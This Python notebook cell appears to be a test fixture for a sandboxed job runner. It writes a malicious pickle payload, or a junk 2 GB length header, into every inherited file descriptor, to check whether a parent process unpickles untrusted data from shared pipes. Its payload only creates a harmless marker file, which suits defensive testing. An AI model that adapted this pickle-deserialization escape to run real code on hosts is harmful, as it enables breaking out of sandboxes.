"""Attack (a notebook cell): write into every inherited file descriptor but 0/1/2.

What it writes: with CK_MARKER_PATH, a pickle in multiprocessing's length-prefixed format
(4-byte length, then the pickle) whose loading runs `io.open(CK_MARKER_PATH, "w")`: a
parent that unpickles what arrives on a pipe it shares with the job (a worker pool's, or
the job's channel itself, fd 3) leaves a marker file on the host. With CK_MARKER_PATH None,
junk: a 2 GB length header and binary noise, which a reader must neither wait for,
allocate, nor crash on. The notebook's own files (IPython's history) are spared.
"""
if CK_MARKER_PATH is not None:
    import io, pickle, struct
    class _Marker:
        def __reduce__(self):  # io.open: IPython wraps the builtin open
            return (io.open, (CK_MARKER_PATH, "w"))
    _data = pickle.dumps(_Marker())
    PAYLOAD = struct.pack("!i", len(_data)) + _data
else:
    PAYLOAD = b"\x7f\xff\xff\xff" + b"junk" * 1024 + bytes(range(256)) * 4

import os
_here = os.path.realpath(".")
for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    if _fd <= 2:
        continue
    try:
        _target = os.readlink("/proc/self/fd/%d" % _fd)
    except OSError:
        continue
    if _target.startswith(_here):  # the notebook's own files (IPython's history)
        continue
    try:
        os.write(_fd, PAYLOAD)
    except OSError:
        pass
